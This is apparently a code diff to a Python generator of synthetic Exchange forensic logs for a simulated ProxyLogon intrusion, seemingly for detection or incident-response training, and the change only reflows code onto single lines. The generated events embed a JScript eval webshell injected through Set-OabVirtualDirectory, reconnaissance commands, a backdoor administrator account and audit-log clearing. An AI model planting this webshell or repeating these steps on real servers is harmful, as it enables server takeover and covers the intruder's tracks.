@@ -51,24 +51,10 @@ def _benign_times(plan: AttackPlan, rng: random.Random, n: int) -> list[datetime
 # -- Application: Winlogbeat / ECS -------------------------------------------------------------------
 
 
-def _ecs(
-    plan: AttackPlan,
-    ts: datetime,
-    rid: int,
-    provider: str,
-    eid: int,
-    level: str,
-    message: str,
-    data: dict[str, Any],
-) -> str:
+def _ecs(plan: AttackPlan, ts: datetime, rid: int, provider: str, eid: int, level: str, message: str, data: dict[str, Any]) -> str:
     doc = {
         "@timestamp": _utc(ts),
-        "event": {
-            "code": str(eid),
-            "provider": provider,
-            "kind": "event",
-            "created": _utc(ts + timedelta(seconds=3)),
-        },
+        "event": {"code": str(eid), "provider": provider, "kind": "event", "created": _utc(ts + timedelta(seconds=3))},
         "log": {"level": level},
         "message": message,
         "host": {"name": plan.fqdn},
@@ -87,16 +73,7 @@ def _ecs(
 def _application(tree: Tree, plan: AttackPlan, rng: random.Random, attacked: bool) -> None:
     lines: list[tuple[datetime, str, int, str, str, dict[str, Any]]] = []
     for ts in _benign_times(plan, rng, 40):
-        lines.append(
-            (
-                ts,
-                "MSExchange Front End HTTP Proxy",
-                1001,
-                "information",
-                "[Oab] Application starting.",
-                {"param1": "Oab"},
-            )
-        )
+        lines.append((ts, "MSExchange Front End HTTP Proxy", 1001, "information", "[Oab] Application starting.", {"param1": "Oab"}))
     if attacked:
         m = plan.moments
         ssrf = m.get("proxylogon_ecp", plan.attack_start or plan.start)
@@ -137,47 +114,16 @@ def _management(tree: Tree, plan: AttackPlan, rng: random.Random, attacked: bool
     if attacked:
         m = plan.moments
         caller = f"{plan.domain}/Users/{plan.hostname}$"
-        script = (
-            '<script language="JScript" runat="server"> function Page_Load(){/**/eval(Request["'
-            + (plan.shell_password or "code")
-            + '"],"unsafe");}</script>'
-        )
+        script = '<script language="JScript" runat="server"> function Page_Load(){/**/eval(Request["' + (plan.shell_password or "code") + '"],"unsafe");}</script>'
         set_t = m.get("oab_set_externalurl", plan.attack_start or plan.start)
         reset_t = m.get("oab_reset", set_t + timedelta(minutes=9))
-        rows.append(
-            (
-                set_t,
-                1,
-                [
-                    "Set-OabVirtualDirectory",
-                    f'-ExternalUrl "http://ffff/#{script}" -Identity "OAB (Default Web Site)"',
-                    caller,
-                    "Remote-PowerShell-Unknown",
-                ],
-            )
-        )
-        rows.append(
-            (
-                reset_t,
-                1,
-                [
-                    "Remove-OabVirtualDirectory",
-                    f'-Force "True" -Identity "{plan.hostname}\\OAB (Default Web Site)"',
-                    caller,
-                    "Remote-PowerShell-Unknown",
-                ],
-            )
-        )
+        rows.append((set_t, 1, ["Set-OabVirtualDirectory", f'-ExternalUrl "http://ffff/#{script}" -Identity "OAB (Default Web Site)"', caller, "Remote-PowerShell-Unknown"]))
+        rows.append((reset_t, 1, ["Remove-OabVirtualDirectory", f'-Force "True" -Identity "{plan.hostname}\\OAB (Default Web Site)"', caller, "Remote-PowerShell-Unknown"]))
         rows.append(
             (
                 reset_t + timedelta(seconds=1),
                 1,
-                [
-                    "New-OabVirtualDirectory",
-                    f'-WebSiteName "Default Web Site" -Server "{plan.hostname}" -Role "ClientAccess" -InternalUrl "https://{plan.fqdn}/OAB" -Path "{plan.install_path}\\FrontEnd\\HttpProxy\\OAB"',
-                    caller,
-                    "Remote-PowerShell-Unknown",
-                ],
+                ["New-OabVirtualDirectory", f'-WebSiteName "Default Web Site" -Server "{plan.hostname}" -Role "ClientAccess" -InternalUrl "https://{plan.fqdn}/OAB" -Path "{plan.install_path}\\FrontEnd\\HttpProxy\\OAB"', caller, "Remote-PowerShell-Unknown"],
             )
         )
     rows.sort(key=lambda r: r[0])
@@ -242,7 +188,7 @@ def _sysmon(tree: Tree, plan: AttackPlan, rng: random.Random, attacked: bool) ->
                 1,
                 {
                     "Image": f"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\{child}",
-                    "CommandLine": f'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\{child} /noconfig /fullpaths @"C:\\Windows\\TEMP\\x.cmdline"',
+                    "CommandLine": f"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\{child} /noconfig /fullpaths @\"C:\\Windows\\TEMP\\x.cmdline\"",
                     "ParentImage": w3wp,
                     "ParentCommandLine": _w3wp_cmdline(plan, "MSExchangeOWAAppPool"),
                     "User": "NT AUTHORITY\\SYSTEM",
@@ -252,41 +198,11 @@ def _sysmon(tree: Tree, plan: AttackPlan, rng: random.Random, attacked: bool) ->
     if attacked:
         m = plan.moments
         if plan.shell_path:
-            docs.append(
-                (
-                    m["webshell_written"],
-                    11,
-                    {"Image": "System", "ProcessId": 4, "TargetFilename": plan.shell_path},
-                )
-            )
+            docs.append((m["webshell_written"], 11, {"Image": "System", "ProcessId": 4, "TargetFilename": plan.shell_path}))
         use = m.get("webshell_first_use", plan.attack_start or plan.start)
         owa = _w3wp_cmdline(plan, "MSExchangeOWAAppPool")
-        docs.append(
-            (
-                use,
-                1,
-                {
-                    "Image": "C:\\Windows\\System32\\cmd.exe",
-                    "CommandLine": 'cmd /c "whoami"',
-                    "ParentImage": w3wp,
-                    "ParentCommandLine": owa,
-                    "User": "NT AUTHORITY\\SYSTEM",
-                },
-            )
-        )
-        docs.append(
-            (
-                use + timedelta(seconds=40),
-                1,
-                {
-                    "Image": "C:\\Windows\\System32\\net.exe",
-                    "CommandLine": 'net group "Exchange Organization Administrators" /domain',
-                    "ParentImage": "C:\\Windows\\System32\\cmd.exe",
-                    "ParentCommandLine": 'cmd /c "net group"',
-                    "User": "NT AUTHORITY\\SYSTEM",
-                },
-            )
-        )
+        docs.append((use, 1, {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": 'cmd /c "whoami"', "ParentImage": w3wp, "ParentCommandLine": owa, "User": "NT AUTHORITY\\SYSTEM"}))
+        docs.append((use + timedelta(seconds=40), 1, {"Image": "C:\\Windows\\System32\\net.exe", "CommandLine": "net group \"Exchange Organization Administrators\" /domain", "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": 'cmd /c "net group"', "User": "NT AUTHORITY\\SYSTEM"}))
         lsass = m.get("lsass_dump", use + timedelta(minutes=7))
         docs.append(
             (
@@ -323,18 +239,14 @@ def _sysmon(tree: Tree, plan: AttackPlan, rng: random.Random, attacked: bool) ->
 # -- Security: Get-WinEvent | ConvertTo-Json array, UTF-16 -------------------------------------------------
 
 
-def _winevent(
-    plan: AttackPlan, ts: datetime, rid: int, eid: int, props: list[Any], message: str
-) -> dict[str, Any]:
+def _winevent(plan: AttackPlan, ts: datetime, rid: int, eid: int, props: list[Any], message: str) -> dict[str, Any]:
     ms = int(ts.timestamp() * 1000)
     return {
         "Id": eid,
         "Version": 1,
         "Level": 0,
         "RecordId": rid,
-        "ProviderName": "Microsoft-Windows-Security-Auditing"
-        if eid != 1102
-        else "Microsoft-Windows-Eventlog",
+        "ProviderName": "Microsoft-Windows-Security-Auditing" if eid != 1102 else "Microsoft-Windows-Eventlog",
         "LogName": "Security",
         "MachineName": plan.fqdn,
         "TimeCreated": f"/Date({ms})/",
@@ -349,136 +261,22 @@ def _security(tree: Tree, plan: AttackPlan, rng: random.Random, attacked: bool) 
     sid = "S-1-5-21-1004336348-1177238915-682003330"
     for ts in _benign_times(plan, rng, 30):
         ip = f"10.0.{rng.randint(0, 9)}.{rng.randint(2, 250)}"
-        props = [
-            "S-1-0-0",
-            "-",
-            "-",
-            "0x0",
-            f"{sid}-1105",
-            "svc_backup",
-            plan.netbios_domain,
-            "0x3e7",
-            3,
-            "NtLmSsp",
-            "NTLM",
-            "WS01",
-            "{00000000-0000-0000-0000-000000000000}",
-            "-",
-            "NTLM V2",
-            128,
-            "0x0",
-            "-",
-            ip,
-            rng.randint(40000, 60000),
-        ]
+        props = ["S-1-0-0", "-", "-", "0x0", f"{sid}-1105", "svc_backup", plan.netbios_domain, "0x3e7", 3, "NtLmSsp", "NTLM", "WS01", "{00000000-0000-0000-0000-000000000000}", "-", "NTLM V2", 128, "0x0", "-", ip, rng.randint(40000, 60000)]
         events.append((ts, 4624, props, "An account was successfully logged on."))
     if attacked:
         m = plan.moments
         if plan.shell_path:
             rel = plan.shell_path.split(":\\", 1)[-1]
-            props = [
-                f"{sid}-1000",
-                f"{plan.hostname}$",
-                plan.netbios_domain,
-                "0x5f3e1",
-                "File",
-                "127.0.0.1",
-                53127,
-                "\\\\*\\C$",
-                "\\??\\C:\\",
-                rel,
-                "0x2",
-                "%%4417",
-                "-",
-            ]
-            events.append(
-                (
-                    m["webshell_written"],
-                    5145,
-                    props,
-                    "A network share object was checked to see whether client can be granted desired access.",
-                )
-            )
+            props = [f"{sid}-1000", f"{plan.hostname}$", plan.netbios_domain, "0x5f3e1", "File", "127.0.0.1", 53127, "\\\\*\\C$", "\\??\\C:\\", rel, "0x2", "%%4417", "-"]
+            events.append((m["webshell_written"], 5145, props, "A network share object was checked to see whether client can be granted desired access."))
         if len(plan.attacker_ips) > 1:
-            props = [
-                "S-1-0-0",
-                "-",
-                "-",
-                "0x0",
-                f"{sid}-500",
-                "Administrator",
-                plan.netbios_domain,
-                "0x9a1f3",
-                3,
-                "NtLmSsp",
-                "NTLM",
-                "KALI",
-                "{00000000-0000-0000-0000-000000000000}",
-                "-",
-                "NTLM V2",
-                128,
-                "0x0",
-                "-",
-                plan.attacker_ips[1],
-                51234,
-            ]
-            events.append(
-                (
-                    m.get("webshell_first_use", m["webshell_written"]) + timedelta(minutes=20),
-                    4624,
-                    props,
-                    "An account was successfully logged on.",
-                )
-            )
+            props = ["S-1-0-0", "-", "-", "0x0", f"{sid}-500", "Administrator", plan.netbios_domain, "0x9a1f3", 3, "NtLmSsp", "NTLM", "KALI", "{00000000-0000-0000-0000-000000000000}", "-", "NTLM V2", 128, "0x0", "-", plan.attacker_ips[1], 51234]
+            events.append((m.get("webshell_first_use", m["webshell_written"]) + timedelta(minutes=20), 4624, props, "An account was successfully logged on."))
         acct_t = m.get("lsass_dump", plan.attack_start or plan.start) + timedelta(minutes=12)
-        events.append(
-            (
-                acct_t,
-                4720,
-                [
-                    "support01",
-                    plan.netbios_domain,
-                    f"{sid}-1337",
-                    "S-1-5-18",
-                    f"{plan.hostname}$",
-                    plan.netbios_domain,
-                    "0x3e7",
-                    "-",
-                    "support01",
-                    "%%1793",
-                    "-",
-                ],
-                "A user account was created.",
-            )
-        )
-        events.append(
-            (
-                acct_t + timedelta(seconds=5),
-                4732,
-                [
-                    "-",
-                    f"{sid}-1337",
-                    "Administrators",
-                    "Builtin",
-                    "S-1-5-32-544",
-                    "S-1-5-18",
-                    f"{plan.hostname}$",
-                    plan.netbios_domain,
-                    "0x3e7",
-                    "-",
-                ],
-                "A member was added to a security-enabled local group.",
-            )
-        )
+        events.append((acct_t, 4720, ["support01", plan.netbios_domain, f"{sid}-1337", "S-1-5-18", f"{plan.hostname}$", plan.netbios_domain, "0x3e7", "-", "support01", "%%1793", "-"], "A user account was created."))
+        events.append((acct_t + timedelta(seconds=5), 4732, ["-", f"{sid}-1337", "Administrators", "Builtin", "S-1-5-32-544", "S-1-5-18", f"{plan.hostname}$", plan.netbios_domain, "0x3e7", "-"], "A member was added to a security-enabled local group."))
         clear_t = (plan.attack_end or acct_t) + timedelta(minutes=5)
-        events.append(
-            (
-                clear_t,
-                1102,
-                ["S-1-5-18", f"{plan.hostname}$", plan.netbios_domain, "0x3e7"],
-                "The audit log was cleared.",
-            )
-        )
+        events.append((clear_t, 1102, ["S-1-5-18", f"{plan.hostname}$", plan.netbios_domain, "0x3e7"], "The audit log was cleared."))
     events.sort(key=lambda e: e[0])
     docs = [_winevent(plan, ts, 40000 + i, eid, props, msg) for i, (ts, eid, props, msg) in enumerate(events)]
     text = json.dumps(docs, indent=2)
